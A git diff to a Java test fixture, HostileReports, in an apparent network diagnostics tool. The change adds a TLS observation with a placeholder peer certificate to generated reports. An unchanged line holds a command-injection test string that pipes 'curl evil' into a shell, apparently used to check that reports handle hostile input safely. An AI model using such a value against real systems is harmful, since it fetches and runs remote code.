@@ -10,6 +10,7 @@ import io.arcpreflight.observation.Outcome;
 import io.arcpreflight.observation.endpoint.EndpointObservation;
 import io.arcpreflight.observation.endpoint.EndpointTarget;
 import io.arcpreflight.observation.endpoint.HttpHeader;
+import io.arcpreflight.observation.endpoint.PeerCertificate;
 import io.arcpreflight.observation.endpoint.ProxyConnectAnswer;
 import io.arcpreflight.observation.endpoint.ProxyConnectResult;
 import io.arcpreflight.observation.endpoint.ProxyObservation;
@@ -17,7 +18,11 @@ import io.arcpreflight.observation.endpoint.RequestRoute;
 import io.arcpreflight.observation.endpoint.TcpConnectAttempt;
 import io.arcpreflight.observation.endpoint.TcpConnectOutcome;
 import io.arcpreflight.observation.endpoint.TcpObservation;
+import io.arcpreflight.observation.endpoint.TlsObservation;
+import io.arcpreflight.observation.endpoint.TlsOutcome;
+import io.arcpreflight.observation.endpoint.TrustDecision;
 import io.arcpreflight.report.ReportedFinding.Step;
+import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
 
@@ -43,6 +48,30 @@ public final class HostileReports {
           "x\";curl evil|sh;\"");
 
   private HostileReports() {}
+
+  private static TlsObservation tls(String text) {
+    var certificate =
+        new PeerCertificate(
+            "CN=" + text,
+            text,
+            text,
+            true,
+            Instant.parse("2026-01-01T00:00:00Z"),
+            Instant.parse("2027-01-01T00:00:00Z"),
+            List.of(text),
+            text,
+            text);
+    return new TlsObservation(
+        1,
+        1,
+        TlsOutcome.UNTRUSTED,
+        text,
+        text,
+        text,
+        List.of(certificate),
+        new TrustDecision(text, 1, false, false, false),
+        text);
+  }
 
   /** Everything is one of them. */
   public static Report of(String text) {
@@ -73,7 +102,7 @@ public final class HostileReports {
                     false,
                     text,
                     text)),
-            null,
+            tls(text),
             null,
             null);
     var silent =
